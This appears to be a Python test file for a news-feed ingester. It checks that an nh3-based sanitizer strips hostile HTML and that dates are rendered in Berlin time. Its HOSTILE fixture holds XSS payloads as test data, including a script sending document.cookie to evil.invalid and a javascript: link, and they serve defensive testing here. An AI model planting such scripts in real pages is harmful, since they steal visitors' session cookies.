"""Feed HTML becomes safe plain text (nh3), and feed dates are shown in Koblenz time."""

from __future__ import annotations

import datetime as dt

import aiohttp
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from connectors.ingest.html import german_datetime, plain_text
from connectors.ingest.poller import parse
from connectors.ingest.suggestions import suggestions
from core.time import BERLIN
from tests.connectors.ingest.helpers import poller_for, spec
from tests.fakes.feed_server import FakeFeeds, FeedItem, atom, rss

HOSTILE = (
    '<p onclick="steal()">Impfung &amp; Beratung am <b style="color:red">Montag</b>&nbsp;&ndash; '
    "bitte &bdquo;Impfpass&ldquo; mitbringen.</p>"
    "<script>document.location='https://evil.invalid/?c='+document.cookie</script>"
    '<style>p { display: none }</style><img src="x" onerror="alert(1)">'
    '<p>Mehr: <a href="javascript:alert(2)">hier</a></p><!-- intern: nicht veröffentlichen -->'
    "<ul><li>Ort: Rathaus</li><li>Zeit: 9&ndash;12 Uhr</li></ul>"
)


def test_tags_attributes_scripts_and_comments_are_gone_entities_decoded() -> None:
    text = plain_text(HOSTILE)
    assert text == (
        "Impfung & Beratung am Montag – bitte „Impfpass“ mitbringen.\n\n"
        "Mehr: hier\n\n"
        "• Ort: Rathaus\n"
        "• Zeit: 9–12 Uhr"
    )
    for leftover in ("<", ">", "script", "steal", "evil", "onerror", "javascript", "display", "intern", "&"):
        if leftover == "&":
            assert "&amp;" not in text and "&nbsp;" not in text
        else:
            assert leftover not in text, leftover


def test_text_that_only_looks_like_markup_stays_text() -> None:
    # an escaped tag in the source is text, decoded once: it is never interpreted as markup here
    assert plain_text("a &lt;b&gt; c") == "a <b> c"
    assert plain_text("") == "" and plain_text(None) == ""


def test_parsed_entries_are_plain_text_with_their_link() -> None:
    item = FeedItem("h-1", "<b>Wichtig</b> &amp; neu", HOSTILE, "https://example.invalid/meldung?id=1&x=2")
    for render in (rss, atom):
        (entry,) = parse(render([item]), "application/xml", "https://example.invalid/feed")
        assert entry.title == "Wichtig & neu"
        assert entry.link == "https://example.invalid/meldung?id=1&x=2"
        assert entry.summary.startswith("Impfung & Beratung am Montag")
        assert "script" not in entry.summary and "<" not in entry.summary


def test_a_javascript_link_is_not_kept() -> None:
    (entry,) = parse(
        rss([FeedItem("j", "T", "S", "javascript:alert(1)")]), "application/xml", "https://x.invalid/"
    )
    assert entry.link is None


def test_dates_are_shown_in_europe_berlin_summer_and_winter() -> None:
    summer = dt.datetime(2025, 7, 1, 10, 0, tzinfo=dt.UTC)
    winter = dt.datetime(2025, 1, 15, 10, 0, tzinfo=dt.UTC)
    assert german_datetime(summer) == "01.07.2025, 12:00 Uhr"
    assert german_datetime(winter) == "15.01.2025, 11:00 Uhr"
    # the change to summer time: 00:59 UTC is 01:59 CET, 01:00 UTC is 03:00 CEST
    assert german_datetime(dt.datetime(2025, 3, 30, 0, 59, tzinfo=dt.UTC)) == "30.03.2025, 01:59 Uhr"
    assert german_datetime(dt.datetime(2025, 3, 30, 1, 0, tzinfo=dt.UTC)) == "30.03.2025, 03:00 Uhr"


def test_feed_dates_with_offsets_are_the_same_moment() -> None:
    body = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
        b"<item><guid>1</guid><title>a</title><pubDate>Tue, 01 Jul 2025 12:00:00 +0200</pubDate></item>"
        b"<item><guid>2</guid><title>b</title><pubDate>Tue, 01 Jul 2025 10:00:00 GMT</pubDate></item>"
        b"</channel></rss>"
    )
    first, second = parse(body, "application/rss+xml", "https://x.invalid/")
    assert first.published_at == second.published_at == dt.datetime(2025, 7, 1, 10, 0, tzinfo=dt.UTC)
    assert first.published_at is not None and first.published_at.astimezone(BERLIN).hour == 12


async def test_suggestion_shows_plain_text_and_berlin_date(
    feeds: FakeFeeds, http: aiohttp.ClientSession, sessions: async_sessionmaker[AsyncSession]
) -> None:
    published = dt.datetime.now(dt.UTC).replace(month=1, day=15, hour=10, minute=0, second=0, microsecond=0)
    if published > dt.datetime.now(dt.UTC):
        published = published.replace(year=published.year - 1)
    feeds.set_items("atom", [FeedItem("s-1", "Grippewelle", HOSTILE, "https://example.invalid/g", published)])
    feed = spec("Gesundheitsamt", f"{feeds.url}/atom")
    await poller_for([feed], http, sessions, max_age=dt.timedelta(days=800)).poll(feed)
    (suggestion,) = await suggestions(sessions, 5)
    assert suggestion.published_at == published
    assert suggestion.text.endswith(
        f"Quelle: Gesundheitsamt (veröffentlicht am 15.01.{published.year}, 11:00 Uhr)"
    )
    assert "<" not in suggestion.text and "script" not in suggestion.text
    assert suggestion.link == "https://example.invalid/g"
